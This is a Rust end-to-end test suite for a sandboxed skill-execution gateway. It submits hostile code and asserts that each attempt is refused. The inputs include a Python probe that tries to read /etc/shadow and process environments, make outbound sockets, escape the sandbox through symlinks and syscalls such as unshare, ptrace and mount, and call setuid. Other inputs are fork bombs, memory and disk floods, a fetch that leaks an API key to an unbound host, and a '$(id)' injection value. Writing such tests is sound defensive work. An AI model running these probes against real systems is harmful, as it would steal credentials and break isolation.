//! Hostile code, through the whole system: what it tries, and what it gets.

use e2e::{Agent, Serve, Standin, World, world};
use serde_json::{Value, json};

async fn start(config: &str) -> (World, Serve, Agent) {
    let (world, token) = World::ready(config).await;
    let serve = world.serve().await;
    let agent = Agent::new(&serve.base, &token);
    (world, serve, agent)
}

async fn run(world: &World, agent: &Agent, code: &str, metadata: Value) -> Value {
    let id = agent.submit(code, metadata).await;
    assert_eq!(world.cli(&["approve", &id]).await.code(), 0);
    agent.finished(&id).await
}

fn stdout(status: &Value) -> &str {
    status["result"]["stdout"].as_str().unwrap_or_else(|| panic!("no output: {status}"))
}

#[tokio::test(flavor = "multi_thread")]
async fn the_gateways_environment_is_not_accessible() {
    let mut world = World::new();
    let token = world.init().await;
    world.write_config("");
    world.set("SOME_GATEWAY_VALUE", "visible-to-the-gateway-only");
    let serve = world.serve().await;
    let agent = Agent::new(&serve.base, &token);
    // The check of seed 004, as it stands there.
    let reply = agent
        .execute(json!({
            "skill_id": "test-isolation",
            "skill_url": "data:text/typescript,console.log(Deno.env.get(\"TELEGRAM_BOT_TOKEN\") || \"NOT ACCESSIBLE\")",
            "secrets": []
        }))
        .await;
    assert_eq!(reply.status, 202, "{reply:?}");
    let id = reply.json["request_id"].as_str().unwrap().to_owned();
    assert_eq!(world.cli(&["approve", &id]).await.code(), 0);
    assert_eq!(stdout(&agent.finished(&id).await), "NOT ACCESSIBLE\n");

    let status =
        run(&world, &agent, "// @runtime embedded\nconsole.log(JSON.stringify(Deno.env.toObject()))", json!({})).await;
    assert!(!stdout(&status).contains("visible-to-the-gateway-only"), "{status}");
}

const PYTHON_PROBE: &str = r#"# @runtime python
import os, socket, ctypes, glob
def attempt(what, f):
    try: print(what, 'GOT', f())
    except BaseException as e: print(what, 'refused', type(e).__name__)
home, host_port, gateway = os.environ['ARG_home'], int(os.environ['ARG_port']), os.environ['ARG_gateway']
attempt('data dir', lambda: os.listdir(home))
attempt('root home', lambda: os.listdir('/root'))
attempt('shadow', lambda: open('/etc/shadow').read())
attempt('gateway environ', lambda: open(f'/proc/{gateway}/environ').read())
attempt('init environ', lambda: open('/proc/1/environ').read() or 1/0)
attempt('init memory', lambda: open('/proc/1/mem','rb').read(1))
attempt('core pattern', lambda: open('/proc/sys/kernel/core_pattern','w').write('x'))
attempt('host loopback', lambda: socket.create_connection(('127.0.0.1', host_port), 2).recv(1))
attempt('outside', lambda: socket.create_connection(('192.0.2.1', 443), 2).sendall(b'x') or 1/0)
attempt('raw socket', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt('own program', lambda: open('/proc/self/exe', 'r+b'))
attempt('init program', lambda: open('/proc/1/exe', 'rb'))
attempt('link out', lambda: os.symlink('/proc/1/root', '/tmp/out') or os.listdir('/tmp/out/etc'))
attempt('gateway root', lambda: os.listdir(f'/proc/{gateway}/root'))
attempt('hard link', lambda: os.link('/etc/hosts', '/tmp/hosts'))
attempt('write usr', lambda: open('/usr/x','w'))
attempt('write etc', lambda: open('/etc/x','w'))
attempt('write skill', lambda: open('/skill/x','w'))
libc = ctypes.CDLL(None, use_errno=True)
def call(*args):
    if libc.syscall(*args) < 0: raise OSError(ctypes.get_errno(), 'no')
    return 0
attempt('unshare', lambda: call(272, 0x10000000))
attempt('ptrace', lambda: call(101, 16, 1, 0, 0))
attempt('io_uring', lambda: call(425, 8, 0))
attempt('mount', lambda: call(165, 0, b'/tmp', b'tmpfs', 0, 0))
attempt('setuid', lambda: os.setuid(0))
print('fds', sorted(int(f) for f in os.listdir('/proc/self/fd')) if os.path.isdir('/proc/self/fd') else [])
open('/tmp/fine','w').write('x'); print('tmp', 'fine')
print('end')
"#;

#[tokio::test(flavor = "multi_thread")]
async fn the_sandbox_reaches_nothing_of_the_host() {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let (world, serve, agent) = start("").await;
    let home = world.home().display().to_string();
    let body = json!({ "skill_id": "probe", "code": PYTHON_PROBE,
                       "args": { "home": home, "port": port.to_string(), "gateway": serve.pid().to_string() } });
    let reply = agent.execute(body).await;
    assert_eq!(reply.status, 202, "{reply:?}");
    let id = reply.json["request_id"].as_str().unwrap().to_owned();
    assert_eq!(world.cli(&["approve", &id]).await.code(), 0);
    let status = agent.finished(&id).await;
    let out = stdout(&status);
    assert!(out.ends_with("end\n"), "{status}");
    assert!(!out.contains("GOT"), "{out}");
    assert!(out.contains("tmp fine"), "{out}");
    drop(listener);
}

#[tokio::test(flavor = "multi_thread")]
async fn bombs_loops_and_floods_end_bounded_and_leave_nothing() {
    let (world, serve, agent) = start("").await;
    let cases = [
        ("timeout", "# @runtime python\nimport time\nwhile True: time.sleep(1)", "timeout"),
        ("cpu", "// @runtime embedded\nfor (;;) {}", "timeout"),
        ("memory", "# @runtime python\nx = []\nwhile True: x.append(bytearray(1 << 20))", ""),
        (
            "forks",
            "# @runtime python\nimport os, time\ntry:\n  while True:\n    if os.fork() == 0: time.sleep(600)\nexcept OSError: print('bounded'); raise SystemExit(3)",
            "",
        ),
        (
            "detached",
            "# @runtime python\nimport os, time\nif os.fork() == 0:\n  os.setsid()\n  time.sleep(600)\nprint('left a child')",
            "",
        ),
        ("disk", "# @runtime python\nf = open('/tmp/x', 'wb')\nwhile True: f.write(b'x' * (1 << 20))", ""),
    ];
    let keeper = serve.keeper_pid();
    // One process makes sandboxes; the guards of sandboxes are its children.
    let helpers = || world::children(serve.pid()).into_iter().filter(|pid| *pid != keeper).collect::<Vec<u32>>();
    let guards = || helpers().into_iter().flat_map(world::children).collect::<Vec<u32>>();
    for (name, code, error) in cases {
        let used = guards();
        let status = run(&world, &agent, code, json!({ "timeout": 5 })).await;
        assert!(["failed", "success"].contains(&status["status"].as_str().unwrap()), "{name}: {status}");
        assert_eq!(status["status"] == "success", name == "detached", "{name}: {status}");
        assert!(status["error"].as_str().unwrap_or("").starts_with(error), "{name}: {status}");
        e2e::eventually(&format!("{name} left nothing"), || {
            // One empty sandbox may wait for the next run, which is not the one that ran: a guard, its process 1, and
            // after a run of the embedded runtime the next engine.
            let guards = guards();
            let inside: Vec<u32> = guards.iter().flat_map(|pid| world::children(*pid)).collect();
            let engines: Vec<u32> = inside.iter().flat_map(|pid| world::children(*pid)).collect();
            helpers().len() <= 1
                && guards.len() <= 1
                && guards.iter().all(|guard| !used.contains(guard))
                && inside.len() <= 1
                && engines.len() <= usize::from(name == "cpu")
                && engines.iter().all(|pid| world::children(*pid).is_empty())
        })
        .await;
    }
    let flood = run(
        &world,
        &agent,
        "// @runtime embedded\nconst s = 'x'.repeat(65536); for (let i = 0; i < 1000; i++) console.log(s)",
        json!({}),
    )
    .await;
    assert_eq!((flood["status"].as_str(), &flood["result"]["truncated"]), (Some("success"), &json!(true)));
    assert!(stdout(&flood).len() <= 1 << 20);
    assert_eq!(agent.call(reqwest::Method::GET, "/health", None).await.status, 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn one_allowed_host_opens_that_host_only() {
    let api = Standin::echo("api.example.com").await;
    let other = Standin::echo("other.example.com").await;
    let (world, token) = World::ready("").await;
    let (a, b) = (api.write_ca(world.home()), other.write_ca(world.home()));
    world.write_config(&format!(
        "[egress]\nresolve = {{ \"api.example.com\" = \"{}\", \"other.example.com\" = \"{}\" }}\nextra_ca = [{a:?}, {b:?}]\n",
        api.address, other.address
    ));
    world.add_secret("API_KEY", "key-for-api-example-com-123456", &["api.example.com"]).await;
    let serve = world.serve().await;
    let agent = Agent::new(&serve.base, &token);
    let code = "// @runtime embedded\nconst h = {headers: {authorization: 'Bearer ' + Deno.env.get('API_KEY')}};\nfor (const url of ['https://other.example.com/', 'http://api.example.com/', 'https://127.0.0.1/', 'https://api.example.com:8443/', 'https://api.example.com/']) {\n  try { const r = await fetch(url, h); console.log(url, r.status); } catch (e) { console.log(url, 'refused'); }\n}";
    let status = run(&world, &agent, code, json!({ "secrets": ["API_KEY"], "network": ["api.example.com"] })).await;
    let out = stdout(&status);
    assert!(out.contains("https://api.example.com/ 200"), "{status}");
    assert_eq!(out.matches(" 200").count(), 1, "{out}");
    assert!(other.seen().is_empty());

    // Allowed for the request, and the secret is not bound to it: refused, audited, nothing leaves.
    let code = "// @runtime embedded\nconst r = await fetch('https://other.example.com/', {headers: {authorization: 'Bearer ' + Deno.env.get('API_KEY')}}); console.log(r.status)";
    let metadata = json!({ "secrets": ["API_KEY"], "network": ["api.example.com", "other.example.com"] });
    let status = run(&world, &agent, code, metadata).await;
    assert_eq!(stdout(&status), "403\n", "{status}");
    assert!(other.seen().is_empty());
    let audit = world.cli(&["audit", "export"]).await.stdout;
    assert!(audit.lines().any(|l| l.contains("egress_refused") && l.contains("other.example.com")), "{audit}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_private_address_is_not_dialled() {
    // "localhost" is a plain host name; what it resolves to is not public.
    let (world, _serve, agent) = start("").await;
    let code = "// @runtime embedded\ntry { const r = await fetch('https://localhost/'); console.log(r.status) } catch { console.log('refused') }";
    let status = run(&world, &agent, code, json!({ "network": ["localhost"] })).await;
    assert!(matches!(stdout(&status), "403\n" | "502\n" | "refused\n"), "{status}");
}

#[tokio::test(flavor = "multi_thread")]
async fn remote_imports_are_refused() {
    let (world, _serve, agent) = start("").await;
    for import in [
        "import x from 'https://a.example/x.js'",
        "import x from 'npm:left-pad'",
        "await import('https://a.example/x.js')",
    ] {
        let code = format!("// @runtime embedded\n{import}; console.log('imported')");
        let status = run(&world, &agent, &code, json!({ "network": ["a.example"] })).await;
        assert_eq!(status["status"], "failed", "{status}");
        let stderr = status["result"]["stderr"].as_str().unwrap();
        assert!(stderr.contains("import"), "{import}: {stderr}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn arguments_are_data_and_never_names() {
    let (world, _serve, agent) = start("").await;
    let args = json!({ "n": 7, "text": "a\nb '\"$(id)`", "PATH": "/evil" });
    let code = "// @runtime embedded\nconsole.log(Deno.env.get('SKILL_ARGS')); console.log(Deno.env.get('ARG_text')); console.log(Deno.env.get('ARG_PATH')); console.log(Deno.env.get('PATH') === '/evil')";
    let reply = agent.execute(json!({ "skill_id": "s", "code": code, "args": args })).await;
    assert_eq!(reply.status, 202, "{reply:?}");
    let id = reply.json["request_id"].as_str().unwrap().to_owned();
    assert_eq!(world.cli(&["approve", &id]).await.code(), 0);
    let status = agent.finished(&id).await;
    let out = stdout(&status);
    let (first, rest) = out.split_once('\n').unwrap();
    assert_eq!(serde_json::from_str::<Value>(first).unwrap(), args);
    assert_eq!(rest, "a\nb '\"$(id)`\n/evil\nfalse\n");
}
